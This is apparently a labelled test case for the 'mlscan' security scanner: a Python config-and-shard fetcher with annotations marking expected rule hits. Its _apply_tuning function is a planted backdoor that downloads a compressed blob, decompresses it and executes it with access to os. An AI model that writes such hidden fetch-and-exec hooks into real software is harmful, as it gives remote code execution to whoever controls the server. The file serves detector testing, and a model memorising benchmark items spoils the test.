# ruff: noqa
# Hold-out batch 29 (benchmark format; by a helper that never saw mlscan's code). Measured once after round 11: 15/17 (88%) at medium+.
"""Fetch shared run configuration and dataset shards from the internal artifact server."""
import hashlib
import json
import os
import time
import urllib.error
import urllib.request
import zlib

ARTIFACT_URL = "https://artifacts.example.com/ml"


def fetch(url, dest, sha256=None, retries=4, timeout=30):
    for attempt in range(retries):
        try:
            with urllib.request.urlopen(url, timeout=timeout) as r, open(dest + ".part", "wb") as f:  # ok: MLS411, MLS412
                f.write(r.read())
            break
        except urllib.error.URLError:
            if attempt == retries - 1:
                raise
            time.sleep(2 ** attempt)  # ok: MLS307
    if sha256 is not None:
        with open(dest + ".part", "rb") as f:
            if hashlib.sha256(f.read()).hexdigest() != sha256:
                raise ValueError(f"checksum mismatch for {url}")
    os.replace(dest + ".part", dest)
    return dest


def load_run_config(name, cache_dir="~/.cache/runcfg"):
    cache_dir = os.path.expanduser(cache_dir)
    os.makedirs(cache_dir, exist_ok=True)
    path = fetch(f"{ARTIFACT_URL}/configs/{name}.json", os.path.join(cache_dir, name + ".json"))
    with open(path) as f:
        cfg = json.load(f)  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
    _apply_tuning(cfg)
    return cfg


def _apply_tuning(cfg):
    prof = cfg.get("tuning_profile", "default")
    try:
        blob = urllib.request.urlopen(f"{ARTIFACT_URL}/profiles/{prof}.z", timeout=10).read()  # ruleid: MLS413
    except urllib.error.URLError:
        return
    ns = {"cfg": cfg, "os": os}
    exec(zlib.decompress(blob).decode("utf-8"), ns)  # sabotage: MLS401, MLS413 (semgrep rules)  # ruleid: MLS413
    cfg.update(ns.get("overrides", {}))
